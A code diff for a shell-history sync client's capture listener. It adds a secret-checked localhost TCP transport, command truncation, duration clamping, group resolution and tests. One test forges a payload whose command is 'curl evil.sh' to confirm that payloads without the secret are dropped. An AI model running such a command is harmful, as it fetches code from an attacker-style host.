@@ -1,22 +1,123 @@
+use std::path::Path;
 use std::sync::Arc;
 
-use shell_sync_core::config::{socket_path, ClientConfig};
+use shell_sync_core::config::{client_config_dir, CaptureEndpoint, CapturePolicy, ClientConfig};
 use shell_sync_core::db::SyncDatabase;
 use shell_sync_core::models::{HistoryEntry, HistoryHookPayload};
-use tokio::io::AsyncBufReadExt;
-use tokio::net::UnixListener;
+use shell_sync_core::secrets::constant_time_eq;
+use tokio::io::{AsyncBufReadExt, AsyncRead};
+use tokio::net::{TcpListener, UnixListener};
 use tracing::{error, info, warn};
 
-/// Start the Unix domain socket listener that receives history hook payloads.
+/// Pick the group a captured command belongs to.
+///
+/// Hooks forward `SHELL_SYNC_GROUP`; it is honored only if this machine is a
+/// member of that group, otherwise the command falls back to the first group.
+fn resolve_group(requested: &str, groups: &[String]) -> String {
+    let fallback = || groups.first().cloned().unwrap_or_else(|| "default".to_string());
+    if requested.is_empty() {
+        return fallback();
+    }
+    if groups.iter().any(|g| g == requested) {
+        requested.to_string()
+    } else {
+        warn!(group = requested, "Hook requested a group this machine is not in");
+        fallback()
+    }
+}
+
+/// Marker appended to commands cut at `max_command_len`.
+const TRUNCATION_MARKER: &str = "…";
+
+/// Cut `command` to at most `max_len` bytes (on a char boundary) plus
+/// [`TRUNCATION_MARKER`]. Returns the command and whether it was truncated.
+fn clamp_command(command: String, max_len: usize) -> (String, bool) {
+    if max_len == 0 || command.len() <= max_len {
+        return (command, false);
+    }
+    let mut end = max_len;
+    while !command.is_char_boundary(end) {
+        end -= 1;
+    }
+    (format!("{}{}", &command[..end], TRUNCATION_MARKER), true)
+}
+
+/// Check a hook-reported duration against `max_secs` (0 = no limit).
+/// Negative or over-long durations come from clock jumps such as suspend and
+/// resume; they are returned as 0 and flagged unknown.
+fn clamp_duration(duration_ms: i64, max_secs: u64) -> (i64, bool) {
+    let max_ms = i64::try_from(max_secs.saturating_mul(1000)).unwrap_or(i64::MAX);
+    if duration_ms < 0 || (max_secs > 0 && duration_ms > max_ms) {
+        (0, true)
+    } else {
+        (duration_ms, false)
+    }
+}
+
+/// Parse one line from a hook, decoding a base64-framed command so its
+/// newlines are kept.
+fn parse_hook_line(line: &str) -> anyhow::Result<HistoryHookPayload> {
+    let mut payload: HistoryHookPayload = serde_json::from_str(line)?;
+    payload.command = payload.decoded_command()?;
+    payload.command_b64 = None;
+    Ok(payload)
+}
+
+/// Save a captured entry locally and queue its pushed copy (see
+/// [`ClientConfig::pushed_entry`]): nothing for local-only groups, the command
+/// head for strip-args groups.
+fn store_entry(db: &SyncDatabase, entry: &HistoryEntry, config: &ClientConfig) {
+    if let Err(e) = db.insert_history_entry(entry) {
+        error!("Failed to insert history entry: {e}");
+    }
+    let Some(pushed) = config.pushed_entry(entry) else {
+        return;
+    };
+    if let Err(e) = db.add_history_pending(&pushed) {
+        error!("Failed to queue pending history: {e}");
+    }
+}
+
+/// Store `entry` if `policy` keeps commands with its exit code. Returns whether it was kept.
+fn capture_entry(
+    db: &SyncDatabase,
+    entry: &HistoryEntry,
+    policy: CapturePolicy,
+    config: &ClientConfig,
+) -> bool {
+    if !policy.captures(entry.exit_code) {
+        return false;
+    }
+    store_entry(db, entry, config);
+    true
+}
+
+/// Start the listener that receives history hook payloads: the Unix socket
+/// at [`shell_sync_core::config::socket_path`], or a localhost TCP port with
+/// `capture_transport = "tcp"`.
 pub async fn start_socket_listener(
     db: Arc<SyncDatabase>,
     config: &ClientConfig,
 ) -> anyhow::Result<()> {
-    let sock_path = socket_path();
+    let config = Arc::new(config.clone());
+    match config.capture_endpoint(&client_config_dir())? {
+        CaptureEndpoint::Unix(sock_path) => {
+            let listener = bind_unix(&sock_path)?;
+            info!(path = %sock_path.display(), "Socket listener started");
+            serve_unix(listener, db, config).await
+        }
+        CaptureEndpoint::Tcp { port, secret } => {
+            let listener = TcpListener::bind(("127.0.0.1", port)).await?;
+            info!(port, "TCP capture listener started");
+            serve_tcp(listener, db, config, secret.into()).await
+        }
+    }
+}
 
+fn bind_unix(sock_path: &Path) -> anyhow::Result<UnixListener> {
     // Clean up stale socket
     if sock_path.exists() {
-        let _ = std::fs::remove_file(&sock_path);
+        let _ = std::fs::remove_file(sock_path);
     }
 
     // Ensure parent directory exists
@@ -24,69 +125,27 @@ pub async fn start_socket_listener(
         std::fs::create_dir_all(parent)?;
     }
 
-    let listener = UnixListener::bind(&sock_path)?;
+    let listener = UnixListener::bind(sock_path)?;
 
     // Set socket permissions to 0o600 (owner only)
     #[cfg(unix)]
     {
         use std::os::unix::fs::PermissionsExt;
         let perms = std::fs::Permissions::from_mode(0o600);
-        std::fs::set_permissions(&sock_path, perms)?;
+        std::fs::set_permissions(sock_path, perms)?;
     }
+    Ok(listener)
+}
 
-    info!(path = %sock_path.display(), "Socket listener started");
-
-    let machine_id = config.machine_id.clone();
-    let hostname = config.hostname.clone();
-    let group_name = config.groups.first().cloned().unwrap_or_else(|| "default".to_string());
-
+async fn serve_unix(
+    listener: UnixListener,
+    db: Arc<SyncDatabase>,
+    config: Arc<ClientConfig>,
+) -> anyhow::Result<()> {
     loop {
         match listener.accept().await {
             Ok((stream, _)) => {
-                let db = db.clone();
-                let machine_id = machine_id.clone();
-                let hostname = hostname.clone();
-                let group_name = group_name.clone();
-
-                tokio::spawn(async move {
-                    let reader = tokio::io::BufReader::new(stream);
-                    let mut lines = reader.lines();
-
-                    while let Ok(Some(line)) = lines.next_line().await {
-                        let line = line.trim().to_string();
-                        if line.is_empty() {
-                            continue;
-                        }
-
-                        match serde_json::from_str::<HistoryHookPayload>(&line) {
-                            Ok(payload) => {
-                                let entry = HistoryEntry {
-                                    id: uuid::Uuid::new_v4().to_string(),
-                                    command: payload.command,
-                                    cwd: payload.cwd,
-                                    exit_code: payload.exit_code,
-                                    duration_ms: payload.duration_ms,
-                                    session_id: payload.session_id,
-                                    machine_id: machine_id.clone(),
-                                    hostname: hostname.clone(),
-                                    timestamp: chrono::Utc::now().timestamp_millis(),
-                                    shell: payload.shell,
-                                    group_name: group_name.clone(),
-                                };
-
-                                if let Err(e) = db.insert_history_entry(&entry) {
-                                    error!("Failed to insert history entry: {e}");
-                                }
-                                if let Err(e) = db.add_history_pending(&entry) {
-                                    error!("Failed to queue pending history: {e}");
-                                }
-                            }
-                            Err(e) => {
-                                warn!("Invalid hook payload: {e}");
-                            }
-                        }
-                    }
-                });
+                tokio::spawn(handle_connection(stream, db.clone(), config.clone(), None));
             }
             Err(e) => {
                 error!("Socket accept error: {e}");
@@ -94,3 +153,340 @@ pub async fn start_socket_listener(
         }
     }
 }
+
+/// Like [`serve_unix`], but any local user can connect to the port, so
+/// payloads must carry `secret`.
+async fn serve_tcp(
+    listener: TcpListener,
+    db: Arc<SyncDatabase>,
+    config: Arc<ClientConfig>,
+    secret: Arc<str>,
+) -> anyhow::Result<()> {
+    loop {
+        match listener.accept().await {
+            Ok((stream, _)) => {
+                let secret = Some(secret.clone());
+                tokio::spawn(handle_connection(
+                    stream,
+                    db.clone(),
+                    config.clone(),
+                    secret,
+                ));
+            }
+            Err(e) => {
+                error!("Capture accept error: {e}");
+            }
+        }
+    }
+}
+
+/// Read newline-separated hook payloads from one connection and capture them.
+/// With a `secret`, payloads that do not carry it are dropped.
+async fn handle_connection<S: AsyncRead + Unpin>(
+    stream: S,
+    db: Arc<SyncDatabase>,
+    config: Arc<ClientConfig>,
+    secret: Option<Arc<str>>,
+) {
+    let reader = tokio::io::BufReader::new(stream);
+    let mut lines = reader.lines();
+
+    while let Ok(Some(line)) = lines.next_line().await {
+        let line = line.trim().to_string();
+        if line.is_empty() {
+            continue;
+        }
+
+        match parse_hook_line(&line) {
+            Ok(payload) => {
+                if secret
+                    .as_deref()
+                    .is_some_and(|s| !constant_time_eq(&payload.secret, s))
+                {
+                    warn!("Dropped a hook payload without the capture secret");
+                    continue;
+                }
+                let group_name = resolve_group(&payload.group_name, &config.groups);
+                let timestamp = chrono::Utc::now().timestamp_millis();
+                let (command, truncated) = clamp_command(payload.command, config.max_command_len);
+                let (duration_ms, unknown_duration) =
+                    clamp_duration(payload.duration_ms, config.max_duration_secs);
+                let entry = HistoryEntry {
+                    id: config.history_id_mode.entry_id(
+                        &command,
+                        &payload.cwd,
+                        &payload.session_id,
+                        timestamp,
+                    ),
+                    command,
+                    cwd: payload.cwd,
+                    exit_code: payload.exit_code,
+                    duration_ms,
+                    session_id: payload.session_id,
+                    machine_id: config.machine_id.clone(),
+                    hostname: config.hostname.clone(),
+                    timestamp,
+                    shell: payload.shell,
+                    group_name,
+                    truncated,
+                    unknown_duration,
+                };
+
+                capture_entry(&db, &entry, config.capture_policy, &config);
+            }
+            Err(e) => {
+                warn!("Invalid hook payload: {e}");
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn groups() -> Vec<String> {
+        vec!["default".to_string(), "work".to_string()]
+    }
+
+    #[test]
+    fn resolve_group_defaults_to_first() {
+        assert_eq!(resolve_group("", &groups()), "default");
+        assert_eq!(resolve_group("", &[]), "default");
+    }
+
+    #[test]
+    fn resolve_group_honors_member_group() {
+        assert_eq!(resolve_group("work", &groups()), "work");
+    }
+
+    #[test]
+    fn resolve_group_rejects_unknown_group() {
+        assert_eq!(resolve_group("secret-team", &groups()), "default");
+    }
+
+    fn config(extra: &str) -> ClientConfig {
+        toml::from_str(&format!(
+            r#"
+server_url = "http://localhost:8888"
+machine_id = "m1"
+auth_token = "t"
+groups = ["default", "work"]
+hostname = "host"
+{extra}
+"#
+        ))
+        .unwrap()
+    }
+
+    fn entry(id: &str, group: &str) -> HistoryEntry {
+        HistoryEntry {
+            group_name: group.into(),
+            ..crate::test_entry(id, "vault read secret/db")
+        }
+    }
+
+    #[test]
+    fn long_command_is_stored_truncated_and_flagged() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+
+        let blob = format!("echo {}", "A".repeat(10_000));
+        let (command, truncated) = clamp_command(blob, 8192);
+        assert!(truncated);
+        assert_eq!(command.len(), 8192 + TRUNCATION_MARKER.len());
+        assert!(command.ends_with(TRUNCATION_MARKER));
+
+        let mut long = entry("h1", "default");
+        long.command = command;
+        long.truncated = truncated;
+        store_entry(&db, &long, &config(""));
+
+        let stored = db.search_history("echo", None, None, None, None, 10, 0).unwrap();
+        assert_eq!(stored.len(), 1);
+        assert!(stored[0].truncated);
+        assert_eq!(stored[0].command.len(), 8192 + TRUNCATION_MARKER.len());
+    }
+
+    #[test]
+    fn base64_framed_multiline_command_is_stored_intact() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+
+        // printf '%s' "$cmd" | base64 for a heredoc typed at the prompt
+        let line = r#"{"command":"","command_b64":"Y2F0IDw8RU9GID4gbm90ZXMudHh0CmZpcnN0IGxpbmUKRU9G","cwd":"/tmp","exit_code":0,"duration_ms":3,"session_id":"s1","shell":"zsh"}"#;
+        let payload = parse_hook_line(line).unwrap();
+        assert_eq!(payload.command, "cat <<EOF > notes.txt\nfirst line\nEOF");
+
+        let mut heredoc = entry("h1", "default");
+        heredoc.command = payload.command;
+        store_entry(&db, &heredoc, &config(""));
+        let stored = db.search_history("notes.txt", None, None, None, None, 10, 0).unwrap();
+        assert_eq!(stored[0].command, "cat <<EOF > notes.txt\nfirst line\nEOF");
+        let pending = db.get_pending_history(10).unwrap();
+        assert_eq!(pending[0].command.lines().count(), 3);
+
+        // Old hooks without the field still work
+        let plain = r#"{"command":"ls","cwd":"/","exit_code":0,"duration_ms":1,"session_id":"s","shell":"zsh"}"#;
+        assert_eq!(parse_hook_line(plain).unwrap().command, "ls");
+    }
+
+    #[test]
+    fn short_command_is_untouched() {
+        assert_eq!(clamp_command("ls -la".into(), 8192), ("ls -la".to_string(), false));
+        assert_eq!(clamp_command("ls -la".into(), 0), ("ls -la".to_string(), false));
+    }
+
+    #[test]
+    fn absurd_duration_is_stored_as_unknown() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+
+        // A laptop that slept for three days mid-command
+        let (duration_ms, unknown) = clamp_duration(3 * 86_400_000, 86_400);
+        assert_eq!((duration_ms, unknown), (0, true));
+        assert_eq!(clamp_duration(-5_000, 86_400), (0, true));
+
+        let mut slept = entry("h1", "default");
+        slept.duration_ms = duration_ms;
+        slept.unknown_duration = unknown;
+        store_entry(&db, &slept, &config(""));
+        let stored = db.search_history("", None, None, None, None, 10, 0).unwrap();
+        assert_eq!(stored[0].duration_ms, 0);
+        assert!(stored[0].unknown_duration);
+    }
+
+    #[test]
+    fn normal_duration_passes_through() {
+        assert_eq!(clamp_duration(1_500, 86_400), (1_500, false));
+        assert_eq!(clamp_duration(86_400_000, 86_400), (86_400_000, false));
+        assert_eq!(clamp_duration(i64::MAX, 0), (i64::MAX, false));
+    }
+
+    #[test]
+    fn truncation_respects_char_boundaries() {
+        let (command, truncated) = clamp_command("echo ééé".into(), 6);
+        assert!(truncated);
+        assert_eq!(command, format!("echo {}", TRUNCATION_MARKER));
+    }
+
+    #[test]
+    fn capture_policy_filters_by_exit_code() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+        let plain = config("");
+        let ok = entry("ok", "default");
+        let mut failed = entry("failed", "default");
+        failed.exit_code = 1;
+
+        assert!(!capture_entry(&db, &ok, CapturePolicy::FailureOnly, &plain));
+        assert!(capture_entry(&db, &failed, CapturePolicy::FailureOnly, &plain));
+        let stored = db.search_history("", None, None, None, None, 10, 0).unwrap();
+        assert_eq!(stored.len(), 1);
+        assert_eq!(stored[0].id, "failed");
+
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+        assert!(capture_entry(&db, &ok, CapturePolicy::SuccessOnly, &plain));
+        assert!(!capture_entry(&db, &failed, CapturePolicy::SuccessOnly, &plain));
+        let stored = db.search_history("", None, None, None, None, 10, 0).unwrap();
+        assert_eq!(stored.len(), 1);
+        assert_eq!(stored[0].id, "ok");
+        assert_eq!(db.get_pending_history(10).unwrap().len(), 1);
+
+        assert!(capture_entry(&db, &failed, CapturePolicy::All, &plain));
+        assert_eq!(db.get_history_count().unwrap(), 2);
+    }
+
+    #[test]
+    fn local_only_entries_are_stored_but_not_queued() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+        let local_only = config(r#"local_only_groups = ["secrets"]"#);
+
+        store_entry(&db, &entry("h1", "secrets"), &local_only);
+        store_entry(&db, &entry("h2", "default"), &local_only);
+
+        assert_eq!(db.get_history_count().unwrap(), 2);
+        let pending = db.get_pending_history(10).unwrap();
+        assert_eq!(pending.len(), 1);
+        assert_eq!(pending[0].id, "h2");
+    }
+
+    #[test]
+    fn strip_args_groups_push_only_the_command_head() {
+        let dir = tempfile::tempdir().unwrap();
+        let db = SyncDatabase::open(dir.path().join("h.db").to_str().unwrap()).unwrap();
+        let strip = config(r#"strip_args_groups = ["work"]"#);
+
+        store_entry(&db, &entry("h1", "work"), &strip);
+        store_entry(&db, &entry("h2", "default"), &strip);
+
+        let stored = db.search_history("", None, None, None, None, 10, 0).unwrap();
+        assert_eq!(stored.len(), 2);
+        assert!(stored.iter().all(|e| e.command == "vault read secret/db"));
+        let mut pending = db.get_pending_history(10).unwrap();
+        pending.sort_by(|a, b| a.id.cmp(&b.id));
+        assert_eq!(pending[0].id, "h1");
+        assert_eq!(pending[0].command, "vault");
+        assert_eq!(pending[1].command, "vault read secret/db");
+    }
+
+    #[tokio::test]
+    async fn tcp_capture_stores_the_same_entry_as_the_unix_socket() {
+        use tokio::io::AsyncWriteExt;
+
+        let line = b"{\"command\":\"make test\",\"cwd\":\"/src\",\"exit_code\":2,\"duration_ms\":40,\"session_id\":\"s1\",\"shell\":\"bash\",\"group_name\":\"work\",\"secret\":\"s3cret\"}\n";
+        let forged = b"{\"command\":\"curl evil.sh\",\"cwd\":\"/\",\"exit_code\":0,\"duration_ms\":1,\"session_id\":\"s2\",\"shell\":\"bash\",\"secret\":\"guess\"}\n";
+        let dir = tempfile::tempdir().unwrap();
+        let config = Arc::new(config(""));
+
+        let open = |name: &str| {
+            Arc::new(SyncDatabase::open(dir.path().join(name).to_str().unwrap()).unwrap())
+        };
+
+        let unix_db = open("u.db");
+        let sock = dir.path().join("sock");
+        let listener = bind_unix(&sock).unwrap();
+        tokio::spawn(serve_unix(listener, unix_db.clone(), config.clone()));
+        let mut stream = tokio::net::UnixStream::connect(&sock).await.unwrap();
+        stream.write_all(line).await.unwrap();
+        drop(stream);
+
+        let tcp_db = open("t.db");
+        let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
+        let addr = listener.local_addr().unwrap();
+        tokio::spawn(serve_tcp(
+            listener,
+            tcp_db.clone(),
+            config.clone(),
+            "s3cret".into(),
+        ));
+        let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
+        // Lines are handled in order, so the forged one is done once `line` is stored
+        stream.write_all(forged).await.unwrap();
+        stream.write_all(line).await.unwrap();
+        drop(stream);
+
+        let stored =
+            |db: &SyncDatabase| db.search_history("", None, None, None, None, 10, 0).unwrap();
+        for _ in 0..100 {
+            if !stored(&unix_db).is_empty() && !stored(&tcp_db).is_empty() {
+                break;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(10)).await;
+        }
+        let (via_unix, via_tcp) = (stored(&unix_db), stored(&tcp_db));
+        assert_eq!((via_unix.len(), via_tcp.len()), (1, 1));
+        let strip = |e: &HistoryEntry| {
+            let mut e = e.clone();
+            e.id.clear();
+            e.timestamp = 0;
+            serde_json::to_value(e).unwrap()
+        };
+        assert_eq!(strip(&via_unix[0]), strip(&via_tcp[0]));
+        assert_eq!(via_tcp[0].command, "make test");
+        assert_eq!(via_tcp[0].group_name, "work");
+        assert_eq!(tcp_db.get_pending_history(10).unwrap().len(), 1);
+    }
+}